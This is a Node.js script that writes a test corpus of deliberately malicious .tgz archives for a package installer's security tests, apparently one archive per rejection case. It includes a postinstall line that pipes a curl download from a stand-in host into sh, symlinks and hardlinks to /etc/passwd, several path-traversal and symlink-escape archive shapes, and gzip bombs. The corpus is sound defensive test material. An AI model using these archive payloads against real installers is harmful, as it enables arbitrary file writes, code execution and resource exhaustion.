#!/usr/bin/env node
// Writes the malicious-archive corpus (test/security/archives/*.tgz), one file per rejection case,
// plus valid.tgz as the control and the download cases. Headers are written by hand because node-tar
// (rightly) refuses to create most of these shapes. Output is deterministic (fixed mtime, gzip level 9,
// OS byte 255), so regenerating gives the committed bytes.
//
// Usage: node test/security/make-corpus.mjs [outputDir]
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { gzipSync } from 'node:zlib';

const BLOCK = 512;
const MTIME = Math.floor(Date.parse('1985-10-26T08:15:00Z') / 1000);
const MiB = 1024 * 1024;

function octal(buffer, offset, length, value) {
  buffer.write(value.toString(8).padStart(length - 1, '0') + '\0', offset, length, 'latin1');
}

/** One raw 512-byte header; every field is written as given, nothing is normalized. */
function header({ path, type = '0', size = 0, mode = 0o644, linkpath = '', prefix = '', magic = 'ustar\0', version = '00', devmajor = 0, devminor = 0, corruptChecksum = false }) {
  const block = Buffer.alloc(BLOCK);
  Buffer.from(path, 'utf8').copy(block, 0, 0, 100);
  octal(block, 100, 8, mode);
  octal(block, 108, 8, 0);
  octal(block, 116, 8, 0);
  octal(block, 124, 12, size);
  octal(block, 136, 12, MTIME);
  block.fill(0x20, 148, 156);
  block.write(type, 156, 1, 'latin1');
  Buffer.from(linkpath, 'utf8').copy(block, 157, 0, 100);
  block.write(magic, 257, 6, 'latin1');
  block.write(version, 263, 2, 'latin1');
  octal(block, 329, 8, devmajor);
  octal(block, 337, 8, devminor);
  Buffer.from(prefix, 'utf8').copy(block, 345, 0, 155);
  let sum = 0;
  for (const byte of block) sum += byte;
  if (corruptChecksum) sum += 1;
  block.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 8, 'latin1');
  return block;
}

function pad(length) {
  return Buffer.alloc((BLOCK - (length % BLOCK)) % BLOCK);
}

/** "<length> <key>=<value>\n", where <length> counts the whole record including its own digits. */
function paxRecord(key, value) {
  const body = ` ${key}=${value}\n`;
  const bodyLength = Buffer.byteLength(body);
  let length = bodyLength + String(bodyLength).length;
  if (String(length).length > String(bodyLength).length) length = bodyLength + String(length).length;
  return `${length}${body}`;
}

/** Extended header of type x (pax) or L/K (GNU long name / link). */
function meta(type, text) {
  const body = Buffer.from(text, 'utf8');
  return [header({ path: type === 'x' ? 'PaxHeader/entry' : '././@LongLink', type, size: body.length }), body, pad(body.length)];
}

function file(path, contents = '', options = {}) {
  const body = Buffer.isBuffer(contents) ? contents : Buffer.from(contents, 'utf8');
  const parts = [];
  let name = path;
  if (Buffer.byteLength(path) > 100) {
    parts.push(...meta('x', paxRecord('path', path)));
    name = path.slice(0, 99);
  }
  parts.push(header({ path: name, size: body.length, ...options }), body, pad(body.length));
  return parts;
}

const folder = (path) => [header({ path: path.endsWith('/') ? path : `${path}/`, type: '5', mode: 0o755 })];
const symlink = (path, target) => [header({ path, type: '2', linkpath: target, mode: 0o777 })];
const hardlink = (path, target) => [header({ path, type: '1', linkpath: target })];
const special = (path, type) => [header({ path, type, devmajor: type === '6' ? 0 : 1, devminor: type === '6' ? 0 : 3 })];
const END = [Buffer.alloc(2 * BLOCK)];

function tar(...entries) {
  return Buffer.concat([...entries.flat(), ...END]);
}

function gzip(data) {
  const compressed = gzipSync(data, { level: 9 });
  compressed[9] = 255; // OS: unknown, so every platform writes the same bytes
  return compressed;
}

/** Zero-filled file entries: deflate packs them about 1000:1, so megabytes unpack from kilobytes. */
function zeros(path, size) {
  return [header({ path, size }), Buffer.alloc(size)];
}

const manifest = {
  name: '@corpus/svc-provider-sample',
  version: '1.0.0',
  type: 'module',
  exports: { './svc-cli-provider': './dist/svc-cli-provider.js' },
  files: ['dist', 'config.schema.json'],
  svc: {
    id: 'corpus.sample',
    publisher: 'corpus',
    manifestVersion: 1,
    apiVersion: '1.0',
    kind: 'cli-provider',
    display: { name: 'Corpus sample', description: 'The control artifact of the security corpus' },
    command: { default: 'sample', versionArgs: ['--version'] },
    compatibility: { svc: '>=0.3.0 <1.0.0', node: '>=20' },
    capabilities: { sessions: { fresh: true, resume: false }, query: { generate: true, stream: false }, models: false },
    permissions: ['process:spawn'],
    configSchema: 'config.schema.json',
  },
};
const packageJson = (extra = {}) => file('package/package.json', `${JSON.stringify({ ...manifest, ...extra }, null, 2)}\n`);
const entry = file('package/dist/svc-cli-provider.js', 'export const svcCliPlugin = {};\n');
const schema = file('package/config.schema.json', '{"$schema":"https://json-schema.org/draft/2020-12/schema","type":"object","additionalProperties":false,"properties":{}}\n');
const valid = [packageJson(), entry, schema];

// The first bytes of each native object format, padded as a linker would: what a loader looks at.
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]);
const MACH_O = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(56)]);
const PE = (() => {
  const bytes = Buffer.alloc(128);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x40, 0x3c);
  bytes.write('PE\0\0', 0x40, 'latin1');
  return bytes;
})();

// Absolute targets name a path under /tmp that the corpus test checks stays absent.
const PWNED = 'svc-corpus-pwned';

export function corpus() {
  const validTgz = gzip(tar(...valid));
  const cases = {
    'valid.tgz': validTgz,

    // package.json asks the installer to do something
    'lifecycle-scripts.tgz': gzip(tar(packageJson({ scripts: { preinstall: 'node x.js', install: 'node x.js', postinstall: `curl https://example.invalid/${PWNED} | sh` } }), entry)),
    'lifecycle-prepare.tgz': gzip(tar(packageJson({ scripts: { prepare: 'node x.js', prepublish: 'node x.js' } }), entry)),
    'dependencies-field.tgz': gzip(tar(packageJson({ dependencies: { 'left-pad': '1.3.0' } }), entry)),
    'bundle-dependencies-field.tgz': gzip(tar(packageJson({ bundleDependencies: ['left-pad'] }), entry)),
    'node-modules-entry.tgz': gzip(tar(...valid, file('package/node_modules/left-pad/index.js', 'module.exports = 1;\n'))),
    'native-module.tgz': gzip(tar(...valid, file('package/dist/addon.node', Buffer.from([0x7f, 0x45, 0x4c, 0x46])))),
    'binding-gyp.tgz': gzip(tar(...valid, file('package/binding.gyp', '{"targets":[]}\n'))),
    'gypfile-field.tgz': gzip(tar(packageJson({ gypfile: true }), entry, schema)),
    // native objects under names that say nothing (recognised by their first bytes)
    'native-elf-renamed.tgz': gzip(tar(...valid, file('package/dist/helper.js', ELF))),
    'native-macho-renamed.tgz': gzip(tar(...valid, file('package/dist/data.bin', MACH_O))),
    'native-pe-renamed.tgz': gzip(tar(...valid, file('package/dist/readme.txt', PE))),
    'pax-rename-to-node.tgz': gzip(tar(...valid, meta('x', paxRecord('path', 'package/dist/addon.node')), file('package/dist/harmless.js', 'export {};\n'))),
    'uppercase-node-extension.tgz': gzip(tar(...valid, file('package/dist/addon.NODE', 'not really\n'))),
    'mixed-case-node-modules.tgz': gzip(tar(...valid, file('package/dist/Node_Modules/left-pad/index.js', 'module.exports = 1;\n'))),
    'nested-package-json-scripts.tgz': gzip(tar(...valid, file('package/dist/package.json', '{"type":"module","scripts":{"postinstall":"node x.js"}}\n'))),

    // paths that address somewhere else
    'absolute-path.tgz': gzip(tar(...valid, file(`/tmp/${PWNED}`, 'pwned\n'))),
    'dot-dot-path.tgz': gzip(tar(...valid, file(`package/../../${PWNED}`, 'pwned\n'))),
    'drive-letter.tgz': gzip(tar(...valid, file(`C:/${PWNED}`, 'pwned\n'))),
    'drive-letter-dot-dot.tgz': gzip(tar(...valid, file(`C:../${PWNED}`, 'pwned\n'))),
    'backslash-path.tgz': gzip(tar(...valid, file(`package\\..\\..\\${PWNED}`, 'pwned\n'))),
    'repeated-leading-slashes.tgz': gzip(tar(...valid, file(`////tmp/${PWNED}`, 'pwned\n'))),
    'pax-path-escape.tgz': gzip(tar(...valid, meta('x', paxRecord('path', `package/../../${PWNED}`)), file('package/dist/harmless.js', 'pwned\n'))),
    'gnu-long-name-escape.tgz': gzip(tar(...valid, meta('L', `package/${'../'.repeat(40)}${PWNED}\0`), file('package/dist/harmless.js', 'pwned\n'))),
    'ustar-prefix-escape.tgz': gzip(tar(...valid, file(PWNED, 'pwned\n', { prefix: 'package/../..' }))),

    // links and special files
    'symlink.tgz': gzip(tar(...valid, symlink('package/dist/passwd', '/etc/passwd'))),
    'hardlink.tgz': gzip(tar(...valid, hardlink('package/dist/passwd', '/etc/passwd'))),
    'character-device.tgz': gzip(tar(...valid, special('package/dist/null', '3'))),
    'block-device.tgz': gzip(tar(...valid, special('package/dist/disk', '4'))),
    'fifo.tgz': gzip(tar(...valid, special('package/dist/pipe', '6'))),
    'typeflag-7.tgz': gzip(tar(...valid, [header({ path: 'package/dist/contiguous.js', type: '7', size: 10 }), Buffer.from('export {};\n'.slice(0, 10)), pad(10)])),
    'pax-linkpath-symlink.tgz': gzip(tar(...valid, meta('x', paxRecord('linkpath', '/etc/passwd')), symlink('package/dist/passwd', 'harmless'))),
    'pax-linkpath-file.tgz': gzip(tar(...valid, meta('x', paxRecord('linkpath', '/etc/passwd')), file('package/dist/passwd.js', 'export {};\n'))),
    // node-tar advisory shapes: a folder, then a symlink of the same name pointing out, then a file through it
    'folder-then-symlink-then-file.tgz': gzip(tar(...valid, folder('package/dist/x'), symlink('package/dist/x', '../../../..'), file(`package/dist/x/${PWNED}`, 'pwned\n'))),
    'folder-then-symlink-then-file-case.tgz': gzip(tar(...valid, folder('package/dist/X'), symlink('package/dist/x', '../../../..'), file(`package/dist/X/${PWNED}`, 'pwned\n'))),
    'folder-then-symlink-then-file-nfd.tgz': gzip(tar(...valid, folder('package/dist/caf\u00e9'), symlink('package/dist/cafe\u0301', '../../../..'), file(`package/dist/caf\u00e9/${PWNED}`, 'pwned\n'))),
    'deep-link-escape.tgz': gzip(tar(...valid, symlink('package/dist/a/b/c/d/e/f/link', '../../../../../../../../../../../../tmp'), file(`package/dist/a/b/c/d/e/f/link/${PWNED}`, 'pwned\n'))),

    // collisions
    'duplicate-path.tgz': gzip(tar(...valid, file('package/dist/svc-cli-provider.js', 'export const svcCliPlugin = { evil: true };\n'))),
    'file-then-folder.tgz': gzip(tar(...valid, file('package/dist/x', 'a file\n'), file('package/dist/x/y.js', 'a file under it\n'))),
    'folder-then-file.tgz': gzip(tar(...valid, folder('package/dist/x'), file('package/dist/x', 'a file\n'))),
    'case-collision.tgz': gzip(tar(...valid, file('package/dist/Index.js', '1\n'), file('package/dist/index.js', '2\n'))),
    'case-collision-folder-file.tgz': gzip(tar(...valid, folder('package/dist/Lib'), file('package/dist/lib', 'a file\n'))),
    'unicode-nfc-nfd-collision.tgz': gzip(tar(...valid, file('package/dist/caf\u00e9.js', '1\n'), file('package/dist/cafe\u0301.js', '2\n'))),
    'sharp-s-collision.tgz': gzip(tar(...valid, file('package/dist/stra\u00dfe.js', '1\n'), file('package/dist/strasse.js', '2\n'))),
    'trailing-dot-collision.tgz': gzip(tar(...valid, file('package/dist/svc-cli-provider.js.', 'export const svcCliPlugin = { evil: true };\n'))),
    'uppercase-package-json.tgz': gzip(tar(...valid, file('package/PACKAGE.JSON', '{"name":"x","version":"1.0.0","scripts":{"postinstall":"node x.js"}}\n'))),

    // bounds (defaults: 5,000 entries, 128 MiB unpacked)
    'too-many-entries.tgz': gzip(tar(...valid, ...Array.from({ length: 5_000 }, (_, i) => file(`package/dist/many/${String(i).padStart(4, '0')}.js`)))),
    // ~130 KB each: one entry of 129 MiB, or 33 entries of 4 MiB
    'gzip-bomb-one-entry.tgz': gzip(tar(...valid, zeros('package/dist/zeros.bin', 129 * MiB))),
    'gzip-bomb-many-entries.tgz': gzip(tar(...valid, ...Array.from({ length: 33 }, (_, i) => zeros(`package/dist/zeros-${String(i).padStart(2, '0')}.bin`, 4 * MiB)))),

    // metadata
    'outside-root.tgz': gzip(tar(...valid, file('other/readme.txt', 'outside\n'))),
    'missing-package-json.tgz': gzip(tar(entry, schema)),
    'invalid-package-json.tgz': gzip(tar(file('package/package.json', '{ "name": "x", '), entry)),
    'global-pax-header.tgz': gzip(tar([header({ path: 'pax_global_header', type: 'g', size: 0 })], ...valid)),
    'bad-checksum.tgz': gzip(Buffer.concat([...file('package/package.json', '{}', { corruptChecksum: true }), ...END])),
    'truncated.tgz': gzip(tar(...valid).subarray(0, 700)),
    'not-gzip.tgz': tar(...valid),

    // download: the index declares valid.tgz's size and SHA-256
    'download-body-longer.tgz': Buffer.concat([validTgz, Buffer.alloc(4096, 0x41)]),
    'download-body-shorter.tgz': validTgz.subarray(0, validTgz.length - 100),
    'download-digest-mismatch.tgz': Buffer.from(validTgz).fill(0x42, 20, 21),
  };
  return cases;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const out = resolve(process.argv[2] ?? join(dirname(new URL(import.meta.url).pathname), 'archives'));
  mkdirSync(out, { recursive: true });
  const archives = Object.entries(corpus());
  for (const [name, bytes] of archives) writeFileSync(join(out, name), bytes);
  console.log(`wrote ${archives.length} archives to ${out}`);
}
